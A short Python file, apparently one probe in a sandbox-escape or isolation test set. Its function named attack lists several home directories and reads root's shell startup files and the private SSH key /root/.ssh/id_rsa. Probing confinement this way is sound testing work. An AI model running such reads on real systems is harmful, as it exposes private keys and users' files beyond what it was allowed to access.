"""Looks through home folders."""

import os

from tools import each, reads


def attack():
    homes = [os.path.expanduser("~"), "/root", "/home", "/home/student"]
    return each(*(lambda home=home: os.listdir(home) for home in homes)) + reads(
        "/root/.bashrc", "/root/.profile", "/root/.ssh/id_rsa"
    )
